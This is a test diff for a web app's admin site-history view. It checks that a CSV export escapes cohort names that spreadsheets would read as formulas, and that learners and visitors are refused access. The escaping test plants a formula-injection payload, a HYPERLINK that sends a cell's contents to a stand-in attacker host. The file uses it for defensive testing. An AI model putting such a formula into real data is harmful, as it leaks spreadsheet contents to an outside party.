@@ -91,3 +91,32 @@ def test_staff_turned_away_from_results_leave_no_results_viewed_entry(
     assert not ModelLogEntry.objects.filter(
         action="academy.assessment_results_view"
     ).exists()
+
+
+def test_the_site_history_download_quotes_names_that_read_as_formulas(
+    client, superuser, home_page
+):
+    from wagtail.log_actions import log
+
+    from tests.academy.factories import CohortFactory
+
+    cohort = CohortFactory(name='=HYPERLINK("http://evil.example/?"&A1,"x")')
+    log(instance=cohort, action="wagtail.edit", user=superuser)
+    client.force_login(superuser)
+
+    response = client.get(reverse(SITE_HISTORY), {"export": "csv"})
+
+    assert response.status_code == 200
+    body = b"".join(response.streaming_content).decode()
+    assert "'=HYPERLINK(" in body
+    assert "\n=HYPERLINK(" not in body
+    assert ",=HYPERLINK(" not in body
+
+
+def test_the_site_history_stays_closed_to_learners_and_visitors(client, learner):
+    url = reverse(SITE_HISTORY)
+    assert client.get(url).status_code == 302
+    client.force_login(learner)
+    response = client.get(url)
+    assert response.status_code == 403
+    assert "no access to the admin" in response.content.decode()
